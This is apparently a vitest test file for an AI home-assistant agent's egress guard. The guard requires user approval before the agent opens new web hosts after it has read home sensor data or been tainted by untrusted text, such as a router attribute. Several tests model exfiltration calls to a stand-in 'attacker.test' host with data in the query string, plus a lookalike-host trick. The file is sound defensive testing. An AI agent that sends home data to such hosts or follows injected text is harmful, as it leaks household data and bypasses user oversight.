import { afterEach, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { runToolCall } from '../../../src/agent/tool-runner.js';
import { createEgressTracker } from '../../../src/policy/taint/egress-tracker.js';
import { applyEgressGuard, egressReason, hostsIn, isKnownHost, normalizeHost } from '../../../src/policy/taint/egress.js';
import { createPolicy, type PolicyContext } from '../../../src/policy/policy.js';
import { parseUserRules } from '../../../src/policy/rules/rule-syntax.js';
import { ConversationStore } from '../../../src/store/conversations.js';
import { closeDatabase, openDatabase } from '../../../src/store/database.js';
import { EgressStore } from '../../../src/store/egress.js';
import { ToolRegistry } from '../../../src/tools/registry.js';
import { describeBrowserOpen } from '../../../src/tools/browser/call-declarations.js';
import { okResult, type Tool } from '../../../src/tools/tool.js';
import { useTempDir } from '../store/temp-dir.js';
import { policyOver, testTools, type PlainCall } from './described-calls.js';

const tools = testTools();
const fresh: PolicyContext = { user: { id: 'u1', via: 'ingress' }, conversationId: 'c1', channel: 'http' };
const readHome: PolicyContext = { ...fresh, egress: { homeData: 'ha_get_state', knownHosts: [] } };
const open = (url: string): PlainCall => ({ tool: 'browser_open', effect: 'external', input: { url } });
const policyWith = (rules: unknown[] = []) => {
  const userRules = parseUserRules(rules);
  return policyOver(tools, { userRules: () => userRules });
};
const HOME_DATA_REASON = "this page's address is new in a conversation that has read your home's data: it could carry that data out";

describe('hosts a person names', () => {
  it('finds links and bare names, and leaves e-mail addresses and entity ids alone', () => {
    expect(hostsIn('open example.org')).toEqual(['example.org']);
    expect(hostsIn('summarise https://www.Example.org/menu?day=1 please')).toEqual(['example.org']);
    expect(hostsIn('check shop.example.co.uk, then 192.168.1.20:8080 and http://localhost:3000/')).toEqual(['localhost', 'shop.example.co.uk', '192.168.1.20']);
    expect(hostsIn('mail anna@example.com the temperature of sensor.outside_temperature')).toEqual([]);
  });

  it('compares hosts without case, trailing dot or www.', () => {
    expect(normalizeHost('WWW.Example.org.')).toBe('example.org');
    expect(isKnownHost('www.example.org', { knownHosts: ['example.org'] })).toBe(true);
    expect(isKnownHost('example.org.attacker.test', { knownHosts: ['example.org'] })).toBe(false);
  });
});

describe('the egress guard (pure)', () => {
  const allow = { effect: 'allow' as const, reason: 'browsing is allowed', rule: 'default' };
  const home = { homeData: 'ha_get_state', knownHosts: ['example.org'] };

  it('asks for a new host once the home was read or the conversation is tainted, and only then', () => {
    expect(applyEgressGuard(allow, { host: 'attacker.test', allowedByName: false }, home, false)).toEqual({ effect: 'ask', reason: egressReason(true), reasonWords: { key: 'policy.egress_home_data' }, rule: 'egress' });
    expect(applyEgressGuard(allow, { host: 'attacker.test', allowedByName: false }, { knownHosts: [] }, true)).toMatchObject({ effect: 'ask', reason: egressReason(false) });
    expect(applyEgressGuard(allow, { host: 'attacker.test', allowedByName: false }, { knownHosts: [] }, false)).toBe(allow);
    expect(applyEgressGuard(allow, { host: 'attacker.test', allowedByName: false }, undefined, false)).toBe(allow);
  });

  it('lets a seen host, a host a user rule names, and calls without a host through; leaves questions and refusals alone', () => {
    expect(applyEgressGuard(allow, { host: 'www.example.org', allowedByName: false }, home, false)).toBe(allow);
    expect(applyEgressGuard(allow, { host: 'attacker.test', allowedByName: true }, home, false)).toBe(allow);
    expect(applyEgressGuard(allow, { allowedByName: false }, home, false)).toBe(allow);
    const deny = { effect: 'deny' as const, reason: 'no' };
    expect(applyEgressGuard(deny, { host: 'attacker.test', allowedByName: false }, home, true)).toBe(deny);
  });
});

describe('browser_open in the policy', () => {
  it('opens any address in a fresh conversation, and asks for a new host once the home was read, saying why', () => {
    const policy = policyWith();
    expect(policy.decide(open('https://example.org/'), fresh).effect).toBe('allow');
    expect(policy.decide(open('https://attacker.test/?d=21.5'), readHome)).toEqual({ effect: 'ask', reason: HOME_DATA_REASON, reasonWords: { key: 'policy.egress_home_data' }, rule: 'egress' });
  });

  it('a host the user wrote or the conversation opened still opens after reading the home', () => {
    const policy = policyWith();
    const seen = { ...fresh, egress: { homeData: 'ha_find_entities', knownHosts: hostsIn('read the menu on example.org') } };
    expect(policy.decide(open('https://www.example.org/menu'), seen).effect).toBe('allow');
    expect(policy.decide(open('https://attacker.test/'), seen).effect).toBe('ask');
  });

  it('a user rule naming the host lets it through; one allowing all browsing does not', () => {
    expect(policyWith([{ effect: 'allow', tool: 'browser_open', match: 'host=attacker.test' }]).decide(open('https://attacker.test/?d=1'), readHome).effect).toBe('allow');
    expect(policyWith([{ effect: 'allow', tool: 'browser_*' }]).decide(open('https://attacker.test/?d=1'), readHome).effect).toBe('ask');
  });

  it('in a tainted conversation the question names the new address and the taint', () => {
    const tainted = { ...readHome, tainted: { source: 'the release_summary attribute of update.router' } };
    const decision = policyWith().decide(open('https://attacker.test/?d=1'), tainted);
    expect(decision.effect).toBe('ask');
    expect(decision.reason).toBe(`${HOME_DATA_REASON}; also, after reading the release_summary attribute of update.router, someone else's text may be steering this conversation, so every action in it needs a yes (a new conversation starts clean)`);
  });

  it('other tools are not concerned: reads, lights and mail keep their verdicts', () => {
    const policy = policyWith();
    expect(policy.decide({ tool: 'ha_get_state', effect: 'read', input: { entity_id: 'light.kitchen' } }, readHome).effect).toBe('allow');
    expect(policy.decide({ tool: 'ha_call_service', effect: 'write', input: { domain: 'light', service: 'turn_on', target: { entity_id: 'light.kitchen' } } }, readHome).effect).toBe('allow');
    expect(policy.decide({ tool: 'mail_send', effect: 'external', input: { to: ['a@example.com'], subject: 's', body: 'b' } }, readHome).reason).toBe('sending an e-mail needs a yes (a@example.com)');
  });
});

describe('what a conversation read and saw, remembered', () => {
  const temp = useTempDir();
  afterEach(() => temp.cleanup());

  it('survives reopening the database, keeps the first reading tool, and goes with the conversation', () => {
    const path = temp.path('m.db');
    let db = openDatabase(path);
    new ConversationStore(db).create({ id: 'c1', userId: 'u1', channel: 'http' });
    const tracker = createEgressTracker(new EgressStore(db));
    expect(tracker.get('c1')).toEqual({ knownHosts: [] });
    tracker.addHosts('c1', ['WWW.Example.org', 'example.org'], 'user');
    tracker.markHomeRead('c1', 'ha_find_entities');
    tracker.markHomeRead('c1', 'ha_get_state');
    closeDatabase(db);

    db = openDatabase(path);
    expect(createEgressTracker(new EgressStore(db)).get('c1')).toEqual({ homeData: 'ha_find_entities', knownHosts: ['example.org'] });
    new ConversationStore(db).delete('c1');
    expect(new EgressStore(db).get('c1')).toEqual({ knownHosts: [] });
    closeDatabase(db);
  });

  it('fails closed: what cannot be saved is kept in memory, and an unreadable record counts as a home read', () => {
    const db = openDatabase(':memory:');
    const tracker = createEgressTracker(new EgressStore(db));
    tracker.markHomeRead('no-such-conversation', 'ha_get_state');
    tracker.addHosts('no-such-conversation', ['example.org'], 'opened');
    expect(tracker.get('no-such-conversation')).toEqual({ homeData: 'ha_get_state', knownHosts: ['example.org'] });
    const broken = createEgressTracker({
      get: () => {
        throw new Error('disk I/O error');
      },
      markHomeRead: () => undefined,
      addHosts: () => undefined,
    });
    expect(broken.get('c1')).toEqual({ homeData: 'something Majordome could not check', knownHosts: [] });
    closeDatabase(db);
  });
});

describe('the tool runner records home reads and opened hosts', () => {
  const home: Tool<Record<string, never>> = {
    name: 'demo_state',
    description: 'Reads a state.',
    input: z.object({}),
    effect: 'read',
    homeData: true,
    execute: async () => okResult({ entity_id: 'sensor.porch', state: '21' }, 'porch'),
  };
  const page: Tool<{ url: string }> = {
    name: 'browser_open',
    description: 'Opens a page.',
    input: z.object({ url: z.string() }),
    effect: 'external',
    describe: describeBrowserOpen,
    execute: async ({ url }) => ({ ...okResult('a page', 'opened'), openedHost: new URL(url).hostname }),
  };

  it('after a home read a new host asks; the host the conversation opened before does not', async () => {
    const db = openDatabase(':memory:');
    new ConversationStore(db).create({ id: 'c1', userId: 'u1', channel: 'test' });
    const asked: string[] = [];
    const deps = {
      tools: new ToolRegistry([home, page]),
      policy: createPolicy({ userRules: () => [] }),
      audit: { record: () => undefined },
      approvals: { request: async (call: { reason: string }) => (asked.push(call.reason), { decision: 'deny' as const, by: 'Alice' }) },
      egress: createEgressTracker(new EgressStore(db)),
    };
    const run = (name: string, input: unknown = {}) =>
      runToolCall(deps, { type: 'tool_use', id: `t-${name}`, name, input }, { ...fresh, signal: new AbortController().signal, language: 'en' }, () => undefined);

    expect((await run('browser_open', { url: 'https://example.org/' })).is_error).toBeUndefined();
    await run('demo_state');
    expect(deps.egress.get('c1')).toEqual({ homeData: 'demo_state', knownHosts: ['example.org'] });
    expect((await run('browser_open', { url: 'https://example.org/menu' })).is_error).toBeUndefined();
    expect((await run('browser_open', { url: 'https://attacker.test/?d=21' })).is_error).toBe(true);
    expect(asked).toEqual([HOME_DATA_REASON]);
    closeDatabase(db);
  });
});
